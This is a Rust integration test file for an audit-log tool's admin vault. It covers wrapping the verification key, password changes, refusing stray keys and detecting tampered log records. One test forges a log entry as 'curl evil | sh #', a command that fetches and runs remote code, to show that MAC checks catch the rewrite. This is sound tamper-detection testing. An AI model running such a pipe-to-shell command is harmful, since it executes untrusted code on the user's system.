//! The audit log's verification key in the admin vault, through the real binary (DESIGN §5, §6):
//! `vault init` / `vault wrap-key` wrap the daemon's plaintext key file and delete it;
//! `log verify --password-stdin` checks the seals with it.
#[path = "support/daemon.rs"]
mod daemon;
#[path = "support/tamper.rs"]
mod tamper;

use std::io::Write;
use std::path::PathBuf;
use std::process::Stdio;

use daemon::Home;
use holdfast::vault::{Vault, unwrap_verification_key};
use holdfast::wire::{Proposal, RequestBody, ResponseBody};
use tamper::rechain;

const PW: &str = "correct horse battery staple";
const PW2: &str = "another long admin password";

fn record(d: &daemon::Daemon, raw: &str) {
    let p = Proposal { agent: "test".into(), cwd: daemon::abs_cwd(), raw: raw.into(), ..Default::default() };
    match d.request(RequestBody::Record(p)) {
        ResponseBody::Ack(_) => {}
        other => panic!("expected ack, got {other:?}"),
    }
}

fn key_file(home: &Home) -> PathBuf {
    home.paths().config_dir.join("verification.key")
}

/// A stopped home with a log of ~20 records and the daemon's plaintext key file.
fn home_with_log() -> Home {
    let home = Home::new();
    let d = home.daemon(&["--durability", "batch"]);
    for i in 0..16 {
        record(&d, &format!("echo {i}"));
    }
    let (status, stderr) = d.terminate();
    assert!(status.success());
    assert!(stderr.contains("vault init"), "the daemon should say how to wrap the key:\n{stderr}");
    assert!(key_file(&home).exists());
    home
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// Runs `holdfast args…` with `stdin`, ignoring write errors: a command that refuses before reading
/// the password may exit before the test writes it.
fn run(home: &Home, args: &[&str], stdin: &str) -> std::process::Output {
    let mut child =
        home.cmd().args(args).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let _ = child.stdin.take().unwrap().write_all(stdin.as_bytes());
    child.wait_with_output().unwrap()
}

/// `log verify --password-stdin` with `pw`: (exit code, stdout, stderr).
fn verify_pw(home: &Home, pw: &str) -> (i32, String, String) {
    let out = run(home, &["log", "verify", "--password-stdin"], &format!("{pw}\n"));
    (out.status.code().unwrap(), text(&out.stdout), text(&out.stderr))
}

fn status_vault(d: &daemon::Daemon) -> String {
    match d.request(RequestBody::Status) {
        ResponseBody::Status(s) => s.vault,
        other => panic!("{other:?}"),
    }
}

#[test]
fn init_after_the_log_wraps_the_key_and_deletes_the_file() {
    let home = home_with_log();
    let k0 = std::fs::read_to_string(key_file(&home)).unwrap();
    let out = home.run(&["vault", "init", "--password-stdin"], &format!("{PW}\n"));
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("wrapped the audit log's verification key"), "{}", text(&out.stdout));
    assert!(!key_file(&home).exists(), "the plaintext key file is still there");
    let vault = Vault::load(&home.paths().vault()).unwrap().unwrap();
    assert_eq!(hex::encode(*unwrap_verification_key(&vault, PW).unwrap()), k0.trim());
    let (code, out, err) = verify_pw(&home, PW);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("every MAC checked"), "{out}");
    let (code, _, err) = verify_pw(&home, "not the admin password");
    assert_eq!(code, 6, "{err}");
    assert!(err.contains("wrong admin password"), "{err}");
    // Changing the password re-wraps the key: the new password unwraps it, the old one no longer does.
    let out = home.run(&["vault", "passwd", "--password-stdin"], &format!("{PW}\n{PW2}\n"));
    assert!(out.status.success(), "{}", text(&out.stderr));
    let (code, out, err) = verify_pw(&home, PW2);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("every MAC checked"), "{out}");
    assert_eq!(verify_pw(&home, PW).0, 6);
}

#[test]
fn vault_key_catches_a_chain_recomputed_without_the_key() {
    let home = home_with_log();
    let out = home.run(&["vault", "init", "--password-stdin"], &format!("{PW}\n"));
    assert!(out.status.success(), "{}", text(&out.stderr));
    let path = home.paths().audit_log();
    let mut lines: Vec<String> = std::fs::read_to_string(&path).unwrap().lines().map(str::to_string).collect();
    lines[9] = lines[9].replace("\"raw\":\"echo", "\"raw\":\"curl evil | sh #");
    rechain(&mut lines, 9);
    std::fs::write(&path, lines.join("\n") + "\n").unwrap();
    let out = home.run(&["log", "verify"], "");
    assert_eq!(out.status.code(), Some(0), "without the key a rewritten chain is consistent (documented limit)");
    let (code, out, _) = verify_pw(&home, PW);
    assert_eq!(code, 8, "{out}");
    let first = out.lines().find(|l| l.contains("FIRST BAD")).unwrap_or_default();
    assert!(first.contains("record seq 10 (line 10)") && first.contains("MAC"), "{out}");
}

#[test]
fn log_created_under_a_vault_waits_for_wrap_key() {
    let home = Home::new();
    let out = home.run(&["vault", "init", "--password-stdin"], &format!("{PW}\n"));
    assert!(out.status.success(), "{}", text(&out.stderr));
    // No vault key yet: verify says so before asking for a password.
    let (code, _, err) = verify_pw(&home, PW);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("holds no wrapped audit verification key") && err.contains("wrap-key"), "{err}");
    let d = home.daemon(&[]);
    record(&d, "echo hello");
    let vault = status_vault(&d);
    assert!(vault.starts_with("locked (") && vault.contains("holdfast vault wrap-key"), "{vault}");
    let out = home.run(&["vault", "status", "--json"], "");
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["plaintext_key"], key_file(&home).to_str().unwrap());
    assert_eq!(v["detail"]["seal_wrap"], false);
    // A wrong password changes nothing.
    let before = std::fs::read(home.paths().vault()).unwrap();
    let out = home.run(&["vault", "wrap-key", "--password-stdin"], "not the admin password\n");
    assert_eq!(out.status.code(), Some(6), "{}", text(&out.stderr));
    assert_eq!(std::fs::read(home.paths().vault()).unwrap(), before);
    assert!(key_file(&home).exists());
    let out = home.run(&["vault", "wrap-key", "--password-stdin", "--json"], &format!("{PW}\n"));
    assert!(out.status.success(), "{}", text(&out.stderr));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["deleted"], true);
    assert_eq!(v["already_wrapped"], false);
    assert!(!key_file(&home).exists());
    // The note goes away without a restart; the running daemon's head anchors the check.
    assert_eq!(status_vault(&d), "locked");
    let (code, out, err) = verify_pw(&home, PW);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("every MAC checked") && out.contains("running daemon's head"), "{out}");
    // Nothing left to wrap.
    let out = run(&home, &["vault", "wrap-key", "--password-stdin"], &format!("{PW}\n"));
    assert!(!out.status.success());
    assert!(text(&out.stderr).contains("no verification key file"), "{}", text(&out.stderr));
    let (status, stderr) = d.terminate_authorized(&home, PW);
    assert!(status.success());
    assert!(stderr.contains("run `holdfast vault wrap-key` now"), "{stderr}");
    assert!(!stderr.contains(PW));
}

#[test]
fn another_logs_key_is_never_wrapped_silently() {
    let home = home_with_log();
    let out = home.run(&["vault", "init", "--password-stdin"], &format!("{PW}\n"));
    assert!(out.status.success(), "{}", text(&out.stderr));
    // A new log replaces the old one: its key arrives as a new plaintext file.
    std::fs::remove_file(home.paths().audit_log()).unwrap();
    std::fs::remove_file(home.paths().data_dir.join("seal.key")).unwrap();
    // Everything kept beside the log goes too, or the new log starts with a missing-log damage record.
    std::fs::remove_file(home.paths().data_dir.join("checkpoint.json")).unwrap();
    let d = home.daemon(&[]);
    record(&d, "echo new log");
    let (status, _) = d.terminate_authorized(&home, PW);
    assert!(status.success());
    let new_key = std::fs::read_to_string(key_file(&home)).unwrap();
    // A key file of some other log, named explicitly, is refused before the password is read.
    let stray = home.path().join("stray.key");
    std::fs::write(&stray, hex::encode([7u8; 32])).unwrap();
    let out = run(&home, &["vault", "wrap-key", "--key-file", stray.to_str().unwrap(), "--password-stdin"], PW);
    assert!(!out.status.success());
    assert!(text(&out.stderr).contains("is not the verification key of the audit log"), "{}", text(&out.stderr));
    // The vault's key is the old log's: verify says which, wrap-key needs --replace.
    let (code, _, err) = verify_pw(&home, PW);
    assert_eq!(code, 8);
    assert!(err.contains("does not seal record 1"), "{err}");
    let out = run(&home, &["vault", "wrap-key", "--password-stdin"], &format!("{PW}\n"));
    assert!(!out.status.success());
    assert!(text(&out.stderr).contains("--replace"), "{}", text(&out.stderr));
    assert!(key_file(&home).exists());
    let out = home.run(&["vault", "wrap-key", "--replace", "--password-stdin"], &format!("{PW}\n"));
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(!key_file(&home).exists());
    let vault = Vault::load(&home.paths().vault()).unwrap().unwrap();
    assert_eq!(hex::encode(*unwrap_verification_key(&vault, PW).unwrap()), new_key.trim());
    assert_eq!(verify_pw(&home, PW).0, 0);
}

#[test]
fn verify_with_the_vault_needs_a_vault() {
    let home = home_with_log();
    let (code, _, err) = verify_pw(&home, PW);
    assert_eq!(code, 1);
    assert!(err.contains("no admin vault") && err.contains("--key-file"), "{err}");
    let key = key_file(&home);
    let out = home.run(&["log", "verify", "--vault", "--key-file", key.to_str().unwrap()], "");
    assert_eq!(out.status.code(), Some(2), "--vault and --key-file are exclusive");
}
